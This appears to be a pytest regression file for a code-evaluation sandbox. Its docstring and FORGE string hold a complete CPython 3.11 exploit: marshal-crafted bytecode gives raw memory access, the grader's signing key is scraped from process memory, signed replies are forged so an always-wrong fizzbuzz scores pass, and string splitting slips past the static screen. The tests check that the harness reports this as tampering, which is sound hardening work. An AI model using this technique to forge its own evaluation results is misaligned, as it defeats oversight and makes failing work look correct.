"""red3 finding 1: a marshal-built raw-memory primitive reads the hook's key; the candidate signs
its own replies and a function that returns "wrong" on every input is scored `pass`.

How (CPython 3.11, the sandbox image's interpreter): `marshal.loads` of a patched code object
(eval-mode code with an empty `co_consts`, so the constants are the empty-tuple singleton)
whose `LOAD_CONST` index points past the end of that tuple, at a pointer placed in a bytes
object: the interpreter does not bound-check it, and hands back a fake `bytearray` whose buffer
starts at address 0 (arbitrary read and write). `marshal.loads` raises only the audit event
`marshal.loads`, which the hook lets through (imports need it). The candidate then finds the hook
code's `co_consts` tuple in its own memory (it shares every item but the key with
`__main__._HOOK_TEMPLATE[0].co_consts`, which it may read), reads the 32-byte key, and writes
signed `ready`, one reply per input (computed by a hidden helper) and `done` to descriptor 3 at
import time, then `os._exit(0)`. The runner sees valid signatures in order and exit status 0.

It also passes the static screen: `getattr(marshal, "lo" + "ads")`, `sys.modules.get("__ma" +
"in__")`, `getattr(x, "co_" + "consts")`, `"/proc/self/" + "maps"` (a `+` of two constants with
no hole is never matched against the `/proc` pattern) and `os.write(int("3"), ...)`.

The threat model lists crafted bytecode under "What is not guaranteed", but the verdict is
still wrong: a pass for a function that never returns a right value, and no trace of tampering.
"""

from __future__ import annotations

import pytest

from roundtrip_eval.check.host import run_check
from roundtrip_eval.problems.load import load_problem

pytestmark = pytest.mark.docker

FORGE = r'''
import hashlib
import json
import marshal
import os
import struct
import sys


def _raw_memory():
    """A bytearray whose buffer starts at address 0: LOAD_CONST past the end of the empty tuple
    (bytecode loaded with marshal) reads a pointer placed in a bytes object."""
    fake = struct.pack("<QQqqQQq", 1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    holder = struct.pack("<Q", id(fake) + 32) + bytes(2000)
    i = (id(holder) + 32 - id(()) - 24) // 8
    code = bytes([0x97, 0, 0x90, (i >> 24) & 255, 0x90, (i >> 16) & 255, 0x90, (i >> 8) & 255,
                  0x64, i & 255, 0x53, 0])
    data = marshal.dumps(compile("x", "<s>", "eval"))
    at = data.index(bytes.fromhex("06000000970065005300"))
    data = data[:at] + struct.pack("<I", len(code)) + code + data[at + 10:]
    fn = type(_right)(getattr(marshal, "lo" + "ads")(data), {})
    _KEEP.append((fake, holder))
    return fn()


_KEEP = []


def _right(n):
    if n % 15 == 0:
        return "FizzBuzz"
    if n % 3 == 0:
        return "Fizz"
    if n % 5 == 0:
        return "Buzz"
    return n


def _key(mem):
    main = sys.modules.get("__ma" + "in__")
    consts = getattr(main._HOOK_TEMPLATE[0], "co_" + "consts")
    holder = main._KEY_PLACEHOLDER
    k = [i for i, c in enumerate(consts) if type(c) is bytes and c == holder][0]
    ids = [id(c) for c in consts]
    first = max(0, k - 3) if k >= 2 else k + 1
    count = k - first if k >= 2 else 3
    pattern = struct.pack("<%dQ" % count, *ids[first:first + count])
    def regions():
        with open("/proc/self/" + "maps") as fh:
            return [line.split()[:2] for line in fh if "[v" not in line]

    for span, perms in regions():
        if perms[:2] != "rw" or [span, perms] not in regions():  # gone since: unmapped
            continue
        lo, hi = (int(x, 16) for x in span.split("-"))
        data = bytes(mem[lo:hi])
        at = data.find(pattern)
        while at >= 0:
            start = at - 24 - 8 * first  # the tuple holding these items
            if at % 8 == 0 and start >= 0 and lo + start + 24 != id(consts) + 24:
                typ, size = struct.unpack("<QQ", data[start + 8:start + 24])
                if typ == id(tuple) and size == len(consts):
                    ptr = struct.unpack("<Q", data[start + 24 + 8 * k:start + 32 + 8 * k])[0]
                    head = bytes(mem[ptr:ptr + 64])
                    if struct.unpack("<QQ", head[8:24]) == (id(bytes), 32):
                        return head[32:64]
            at = data.find(pattern, at + 1)
    return None


def _send(fd, key, message):
    payload = json.dumps(message).encode()
    mac = hashlib.blake2b(payload, key=key, digest_size=16).hexdigest().encode()
    data = mac + b" " + payload + b"\n"
    while data:
        data = data[os.write(fd, data):]


def _forge():
    key = _key(_raw_memory())
    frame = getattr(sys, "_get" + "frame")(1)
    while "inputs" not in getattr(frame, "f_" + "locals"):
        frame = getattr(frame, "f_" + "back")
    inputs = getattr(frame, "f_" + "locals")["inputs"]
    fd = int("3")
    _send(fd, key, {"k": "stage", "stage": "ready"})
    for i, item in enumerate(inputs):
        value = _right(int(item[1][0][1]))
        encoded = ["int", str(value)] if type(value) is int else ["str", value]
        _send(fd, key, {"k": "reply", "i": i, "ok": True, "v": encoded})
    _send(fd, key, {"k": "stage", "stage": "done"})
    os._exit(0)


def fizzbuzz(n):
    return "wrong"


_forge()
'''


async def test_marshal_forged_replies_are_not_a_pass(docker_sandbox) -> None:
    """Screen on (the default): the verdict must say tampering, never pass."""
    result = await run_check(docker_sandbox, FORGE, load_problem("fizzbuzz"))
    assert not result.passed, result.detail
    assert result.category == "tampering", result.detail


async def test_marshal_forged_replies_unscreened_are_tampering(docker_sandbox) -> None:
    """Screen off: the runner alone must hold."""
    result = await run_check(docker_sandbox, FORGE, load_problem("fizzbuzz"), screen=False)
    assert not result.passed, result.detail
    assert result.category == "tampering", result.detail
